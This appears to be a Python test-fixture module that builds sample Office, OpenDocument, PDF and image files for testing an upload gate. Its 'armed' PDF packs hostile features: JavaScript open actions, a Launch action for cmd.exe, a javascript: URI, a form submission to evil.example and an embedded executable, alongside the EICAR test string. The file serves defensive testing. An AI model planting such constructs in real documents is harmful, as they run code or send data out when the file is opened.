"""Files that the upload gate is tried with: good ones, and those made to get past it."""

import io
import zipfile

import pikepdf
from PIL import Image, PngImagePlugin

TYPES = "application/vnd.openxmlformats-officedocument."
MAIN = {
    "docx": ("word/document.xml", f"{TYPES}wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{TYPES}spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{TYPES}presentationml.presentation.main+xml"),
}
CORE = (
    '<?xml version="1.0"?><cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:title>Esitys</dc:title>'
    "<dc:creator>Kalle Kirjoittaja</dc:creator><cp:lastModifiedBy>KONE\\kalle</cp:lastModifiedBy></cp:coreProperties>"
)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def ooxml(kind="docx", inner=b"<w:document/>", extra=(), types=None):
    """A Word, Excel or PowerPoint file of the fewest parts."""
    name, content_type = MAIN[kind]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as folder:
        folder.writestr("[Content_Types].xml", types or f'<Types><Override ContentType="{content_type}"/></Types>')
        folder.writestr("_rels/.rels", "<Relationships/>")
        folder.writestr(name, inner)
        for path, data in extra:
            folder.writestr(path, data)
    return out.getvalue()


def odf(kind="text", extra=(), manifest="<manifest/>"):
    """An OpenDocument file of the fewest parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as folder:
        folder.writestr(zipfile.ZipInfo("mimetype"), f"application/vnd.oasis.opendocument.{kind}", zipfile.ZIP_STORED)
        folder.writestr("content.xml", "<office:document-content/>")
        folder.writestr("META-INF/manifest.xml", manifest)
        for path, data in extra:
            folder.writestr(path, data)
    return out.getvalue()


def pdf(build=lambda document: None, **save):
    """A PDF of one page; ``build`` may add to it."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    build(document)
    out = io.BytesIO()
    document.save(out, **save)
    return out.getvalue()


def javascript(code="app.alert(1)"):
    return pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String(code))


def armed(document):
    """A document that acts in every way the gate knows of."""
    root, page = document.Root, document.pages[0].obj
    root["/OpenAction"] = document.make_indirect(javascript())
    root["/AA"] = pikepdf.Dictionary(WC=javascript())
    root["/Names"] = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), javascript("app.launchURL('x')")]))
    )
    document.attachments["salainen.exe"] = b"MZ hidden file"
    root["/AcroForm"] = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp:xdp>formcalc</xdp:xdp>")
    )
    page["/AA"] = pikepdf.Dictionary(O=javascript())
    actions = [
        pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=pikepdf.String("cmd.exe")),
        pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI=pikepdf.String("javascript:alert(1)")),
        pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI=pikepdf.String("file://palvelin/jako")),
        pikepdf.Dictionary(S=pikepdf.Name("/SubmitForm"), F=pikepdf.String("https://evil.example")),
        pikepdf.Dictionary(S=pikepdf.Name("/GoTo"), D=pikepdf.Array([page, pikepdf.Name.Fit]), Next=javascript()),
    ]
    notes = [link(action) for action in actions]
    notes.append(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/FileAttachment"), Rect=[0, 0, 9, 9])
    )
    notes.append(link(pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI=pikepdf.String("https://www.example.org/"))))
    page["/Annots"] = document.make_indirect(pikepdf.Array([document.make_indirect(note) for note in notes]))


def link(action):
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 10, 10]), A=action
    )


def signed(document):
    """A document with a signature field. The signature is no real one; the gate only sees that there is one."""
    value = pikepdf.Dictionary(
        Type=pikepdf.Name.Sig, ByteRange=pikepdf.Array([0, 1, 2, 3]), Contents=pikepdf.String("00")
    )
    document.Root["/AcroForm"] = pikepdf.Dictionary(
        Fields=pikepdf.Array([pikepdf.Dictionary(FT=pikepdf.Name.Sig, V=document.make_indirect(value))])
    )


def png(size=(20, 10), **save):
    out = io.BytesIO()
    Image.new("RGBA", size, (255, 0, 0, 128)).save(out, "PNG", **save)
    return out.getvalue()


def png_with_notes():
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "Kalle Kuvaaja")
    return png(pnginfo=notes)


def photograph():
    """A JPEG taken with the camera on its side, with the place where it was taken."""
    picture = Image.new("RGB", (40, 20), "blue")
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010F] = "Kamera Oy"
    exif.get_ifd(0x8825)[1] = "N"
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif)
    return out.getvalue()
